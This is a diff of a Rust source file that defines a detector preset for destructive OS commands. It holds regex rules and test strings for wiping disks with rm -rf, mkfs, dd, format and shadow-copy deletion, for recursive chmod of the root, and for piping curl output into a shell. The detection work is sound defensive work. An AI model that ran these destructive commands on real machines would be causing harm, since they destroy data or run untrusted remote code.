@@ -1,6 +1,5 @@
 //! The preset `destructive-os-command`.
 
-use std::ops::Range;
 use std::sync::LazyLock;
 
 use regex::bytes::Regex;
@@ -25,7 +24,10 @@ fn spell(pattern: &str) -> String {
         .and_then(|(before, rest)| Some((before, rest.split_once('>')?)))
     {
         spelt.push_str(&before.replace(' ', GAP));
-        let letters: Vec<String> = word.chars().map(|char| regex_syntax::escape(&char.to_string())).collect();
+        let letters: Vec<String> = word
+            .chars()
+            .map(|char| regex_syntax::escape(&char.to_string()))
+            .collect();
         spelt.push_str(&letters.join(NOTHING));
         rest = after;
     }
@@ -34,12 +36,12 @@ fn spell(pattern: &str) -> String {
 }
 
 /// A drive that is formatted, not a word before a colon.
-fn format_drive(text: &[u8]) -> Option<Range<usize>> {
+fn format_drive(text: &[u8]) -> Option<Vec<u8>> {
     static FORMAT: LazyLock<Regex> = LazyLock::new(|| {
         let pattern = r"\b<format>(?:\.com|\.exe)? [a-z]:(?:\s*/[a-z]|\s*[&|;\x22'\\}]|\s*\z|\s*[\r\n])";
-        Regex::new(&spell(pattern)).expect("patterns of presets are tested")
+        Regex::new(&spell(&super::joined(pattern))).expect("patterns of presets are tested")
     });
-    FORMAT.find(text).map(|found| found.range())
+    FORMAT.find(text).map(|found| found.as_bytes().to_vec())
 }
 
 pub(super) const PRESET: Preset = Preset {
@@ -68,7 +70,14 @@ pub(super) const PRESET: Preset = Preset {
                 r#"{"cmd":"\\rm -rf /"}"#,
                 "/bin/rm -vfr x",
             ],
-            misses: &["rm file", "the rm command", "farm -rf", "rm -f x.log", r#"{"r":"m -r"}"#, "arm and -r"],
+            misses: &[
+                "rm file",
+                "the rm command",
+                "farm -rf",
+                "rm -f x.log",
+                r#"{"r":"m -r"}"#,
+                "arm and -r",
+            ],
         },
         Rule {
             name: "find-delete",
@@ -83,7 +92,12 @@ pub(super) const PRESET: Preset = Preset {
             about: "`mkfs`, `wipefs` and `shred` of a device.",
             pattern: r"\b(?:<mkfs>(?:\.\w+)? (?:-|/|\w+ -)|(?:<wipefs>|<shred>)(?: [^\s,;|&]+)*? DEVICE)",
             only_if: None,
-            hits: &["mkfs.ext4 /dev/sda1", "mk'f's -t ext4 /dev/sdb", "wipefs -a /dev/sda", "shred -n 1 /dev/nvme0n1"],
+            hits: &[
+                "mkfs.ext4 /dev/sda1",
+                "mk'f's -t ext4 /dev/sdb",
+                "wipefs -a /dev/sda",
+                "shred -n 1 /dev/nvme0n1",
+            ],
             misses: &["mkfs is a command", "shred the letter", "shred notes.txt"],
         },
         Rule {
@@ -91,7 +105,11 @@ pub(super) const PRESET: Preset = Preset {
             about: "`dd` onto a device.",
             pattern: r"\b<dd> (?:[^;|&]*[\s'\x22,])?<of>=['\x22]*DEVICE",
             only_if: None,
-            hits: &["dd if=/dev/zero of=/dev/sda bs=1M", "dd of=/dev/nvme0n1", r#"["dd","if=x","of=/dev/sda"]"#],
+            hits: &[
+                "dd if=/dev/zero of=/dev/sda bs=1M",
+                "dd of=/dev/nvme0n1",
+                r#"["dd","if=x","of=/dev/sda"]"#,
+            ],
             misses: &["dd if=/dev/sda of=backup.img", "dd if=x of=/dev/null", "add of=/home"],
         },
         Rule {
@@ -99,13 +117,23 @@ pub(super) const PRESET: Preset = Preset {
             about: "Output sent onto a device, or the root moved to nowhere.",
             pattern: r"(?:>\s*['\x22]?DEVICE|\b<tee>(?: -a)? DEVICE|\b<mv> /[*]? /dev/null)",
             only_if: None,
-            hits: &["cat x > /dev/sda", "echo 1 >/dev/nvme0n1", "mv / /dev/null", "x | tee /dev/sdb"],
+            hits: &[
+                "cat x > /dev/sda",
+                "echo 1 >/dev/nvme0n1",
+                "mv / /dev/null",
+                "x | tee /dev/sdb",
+            ],
             misses: &["make > /dev/null", "x >/dev/stderr", "3 > /dev"],
         },
         Rule {
             name: "power",
             about: "The machine halted or started anew: with a flag, a time, `sudo`, or behind another command.",
-            pattern: r"(?:\b<shutdown>(?:\.exe)? (?:-[a-z]+\b|/[a-z]\b|now\b|\+\d|\d\d?:\d\d)|\b(?:<reboot>|<halt>|<poweroff>) (?:-[fpnwd]\b|--force|--no-wall)|(?:\b<sudo>(?: -[a-z]+)* |(?:&&|;|\|\||\$\()\s*)(?:/s?bin/)?(?:<shutdown>|<reboot>|<halt>|<poweroff>)\s*(?:['\x22;&|)\r\n]|-)|\b<sudo> (?:/s?bin/)?(?:<shutdown>|<reboot>|<halt>|<poweroff>)\b|\b<systemctl>(?: -[^\s,]+)* (?:reboot|halt|poweroff|kexec|emergency)\b|\b(?:<init>|<telinit>) [06]\b|\b(?:<Stop-Computer>|<Restart-Computer>)\b)",
+            pattern: r"(?:\b<shutdown>(?:\.exe)? (?:-[a-z]+\b|/[a-z]\b|now\b|\+\d|\d\d?:\d\d)|\b(?:<reboot>|<halt>
+                |<poweroff>) (?:-[fpnwd]\b|--force|--no-wall)|(?:\b<sudo>(?: -[a-z]+)* |(?:&&|;|\|\|
+                |\$\()\s*)(?:/s?bin/)?(?:<shutdown>|<reboot>|<halt>|<poweroff>)\s*(?:['\x22;&|)\r\n]|-)
+                |\b<sudo> (?:/s?bin/)?(?:<shutdown>|<reboot>|<halt>|<poweroff>)\b
+                |\b<systemctl>(?: -[^\s,]+)* (?:reboot|halt|poweroff|kexec|emergency)\b|\b(?:<init>
+                |<telinit>) [06]\b|\b(?:<Stop-Computer>|<Restart-Computer>)\b)",
             only_if: None,
             hits: &[
                 "shutdown -h now",
@@ -140,15 +168,29 @@ pub(super) const PRESET: Preset = Preset {
             about: "`format` of a drive.",
             pattern: r"\b<format>(?:\.com|\.exe)? [a-z]:",
             only_if: Some(format_drive),
-            hits: &["format c:", "FORMAT D: /q /y", "format.com c: & echo", r#"{"cmd":"format c:"}"#, "f^ormat c: /q"],
+            hits: &[
+                "format c:",
+                "FORMAT D: /q /y",
+                "format.com c: & echo",
+                r#"{"cmd":"format c:"}"#,
+                "f^ormat c: /q",
+            ],
             misses: &["in the format a: b", "format x:y", "the format: c"],
         },
         Rule {
             name: "windows-delete",
             about: "`del` and `erase` with two of the flags `/s`, `/q` and `/f`, `rd` and `rmdir` with `/s`.",
-            pattern: r"\b(?:(?:<del>|<erase>)\b(?:[^\r\n;&|]*\s?/[sqfa]\b){2}|(?:<rd>|<rmdir>)(?: [^\r\n;&|]*)?['\x22\s]?/s\b)",
+            pattern: r"\b(?:(?:<del>|<erase>)\b(?:[^\r\n;&|]*\s?/[sqfa]\b){2}|(?:<rd>
+                |<rmdir>)(?: [^\r\n;&|]*)?['\x22\s]?/s\b)",
             only_if: None,
-            hits: &[r"del /s /q c:\*", r"del c:\* /f /s", "rd /s /q c:", "rmdir x /s", r"d^el /q /s c:\*", "del/s/q x"],
+            hits: &[
+                r"del /s /q c:\*",
+                r"del c:\* /f /s",
+                "rd /s /q c:",
+                "rmdir x /s",
+                r"d^el /q /s c:\*",
+                "del/s/q x",
+            ],
             misses: &["del this /s", "rmdir empty", "3rd /s", "model /s /q", "rd. 5 /street"],
         },
         Rule {
@@ -156,29 +198,53 @@ pub(super) const PRESET: Preset = Preset {
             about: "`chmod` and `chown`, recursive, of the root or of a directory of the system.",
             pattern: r"\b(?:<chmod>|<chown>)(?: [^\s,;|&]+)* (?:-[a-z]*R[a-z]*|--recursive)(?: [^\s,;|&]+)*? /",
             only_if: Some(rights_of_root),
-            hits: &["chmod -R 777 /", "chmod 777 -R /*", "chown -R nobody /etc", r#"["chmod","-R","777","/"]"#, "chmod -vR 000 /usr;"],
-            misses: &["chmod 777 /tmp/x", "chmod -R 755 ./public", "chmod -R 755 /srv/www/site"],
+            hits: &[
+                "chmod -R 777 /",
+                "chmod 777 -R /*",
+                "chown -R nobody /etc",
+                r#"["chmod","-R","777","/"]"#,
+                "chmod -vR 000 /usr;",
+            ],
+            misses: &[
+                "chmod 777 /tmp/x",
+                "chmod -R 755 ./public",
+                "chmod -R 755 /srv/www/site",
+            ],
         },
         Rule {
             name: "powershell-delete",
             about: "`Remove-Item` with `-Recurse` and `-Force`, however short.",
-            pattern: r"\b(?:<Remove-Item>|<ri>)\b[^\r\n;|]*[\s'\x22,]-(?:r[a-z]*\b[^\r\n;|]*[\s'\x22,]-fo?|fo?[a-z]*\b[^\r\n;|]*[\s'\x22,]-r)",
+            pattern: r"\b(?:<Remove-Item>|<ri>)\b[^\r\n;|]*[\s'\x22,]-(?:r[a-z]*\b[^\r\n;|]*[\s'\x22,]-fo?
+                |fo?[a-z]*\b[^\r\n;|]*[\s'\x22,]-r)",
             only_if: None,
-            hits: &["Remove-Item -Recurse -Force C:\\", "remove-item x -fo -r", "ri C:\\ -r -fo"],
+            hits: &[
+                "Remove-Item -Recurse -Force C:\\",
+                "remove-item x -fo -r",
+                "ri C:\\ -r -fo",
+            ],
             misses: &["Remove-Item x.txt", "Remove-Item -Recurse x", "ri -r"],
         },
         Rule {
             name: "windows-disk",
             about: "Disks cleared and shadow copies deleted.",
-            pattern: r"\b(?:<Format-Volume> |<Clear-Disk> |<Initialize-Disk> |<vssadmin>(?:\.exe)? delete shadows|<wmic> shadowcopy delete|<cipher>(?:\.exe)? /w)",
+            pattern: r"\b(?:<Format-Volume> |<Clear-Disk> |<Initialize-Disk> |<vssadmin>(?:\.exe)? delete shadows
+                |<wmic> shadowcopy delete|<cipher>(?:\.exe)? /w)",
             only_if: None,
-            hits: &["Clear-Disk -Number 0", "vssadmin delete shadows /all", "Format-Volume -DriveLetter C"],
+            hits: &[
+                "Clear-Disk -Number 0",
+                "vssadmin delete shadows /all",
+                "Format-Volume -DriveLetter C",
+            ],
             misses: &["clear disk space", "cipher / w"],
         },
         Rule {
             name: "pipe-to-shell",
             about: "What was downloaded is run at once.",
-            pattern: r"(?:\b(?:<curl>|<wget>|<fetch>|<iwr>|<irm>|<Invoke-WebRequest>|<Invoke-RestMethod>)\b[^\r\n;]*\|\s*(?:<sudo>(?: -[^\s]+)* )?(?:/[\w/]*/)?(?:(?:<ba>|<z>|<da>|<k>|<a>|<fi>)?<sh>|<python>\d?|<perl>|<ruby>|<node>|<php>|<iex>|<Invoke-Expression>)\b|\b(?:(?:ba|z|da|k)?sh|source|eval)['\x22\s\\]+(?:-c['\x22\s\\]+)?(?:\$\(|\x3C\(|`)\s*(?:<curl>|<wget>)\b|\b(?:<iex>|<Invoke-Expression>)\b[^\r\n;]*(?:DownloadString|\biwr\b|\birm\b|Invoke-WebRequest))",
+            pattern: r"(?:\b(?:<curl>|<wget>|<fetch>|<iwr>|<irm>|<Invoke-WebRequest>
+                |<Invoke-RestMethod>)\b[^\r\n;]*\|\s*(?:<sudo>(?: -[^\s]+)* )?(?:/[\w/]*/)?(?:(?:<ba>|<z>|<da>|<k>
+                |<a>|<fi>)?<sh>|<python>\d?|<perl>|<ruby>|<node>|<php>|<iex>|<Invoke-Expression>)\b|\b(?:(?:ba|z|da
+                |k)?sh|source|eval)['\x22\s\\]+(?:-c['\x22\s\\]+)?(?:\$\(|\x3C\(|`)\s*(?:<curl>|<wget>)\b|\b(?:<iex>
+                |<Invoke-Expression>)\b[^\r\n;]*(?:DownloadString|\biwr\b|\birm\b|Invoke-WebRequest))",
             only_if: None,
             hits: &[
                 "curl http://x/a.sh | sh",
@@ -189,16 +255,22 @@ pub(super) const PRESET: Preset = Preset {
                 "iex (New-Object Net.WebClient).DownloadString('http://x')",
                 "iwr http://x | iex",
             ],
-            misses: &["curl http://x | jq .", "curl or wget? | shell", "fetch(url).then(x)", "curl x; sh y"],
+            misses: &[
+                "curl http://x | jq .",
+                "curl or wget? | shell",
+                "fetch(url).then(x)",
+                "curl x; sh y",
+            ],
         },
     ],
 };
 
 /// What is changed is the root or a directory of the system, not something below it.
-fn rights_of_root(text: &[u8]) -> Option<Range<usize>> {
+fn rights_of_root(text: &[u8]) -> Option<Vec<u8>> {
     static RIGHTS: LazyLock<Regex> = LazyLock::new(|| {
-        let pattern = r"\b(?:<chmod>|<chown>)(?: [^\s,;|&]+)* (?:-[a-z]*R[a-z]*|--recursive)(?: [^\s,;|&]+)*? ROOT['\x22]*(?:\z|[\s,;&|\]})*\\]|/\s|/\*|/\z)";
-        Regex::new(&spell(pattern)).expect("patterns of presets are tested")
+        let pattern = r"\b(?:<chmod>|<chown>)(?: [^\s,;|&]+)* (?:-[a-z]*R[a-z]*
+            |--recursive)(?: [^\s,;|&]+)*? ROOT['\x22]*(?:\z|[\s,;&|\]})*\\]|/\s|/\*|/\z)";
+        Regex::new(&spell(&super::joined(pattern))).expect("patterns of presets are tested")
     });
-    RIGHTS.find(text).map(|found| found.range())
+    RIGHTS.find(text).map(|found| found.as_bytes().to_vec())
 }
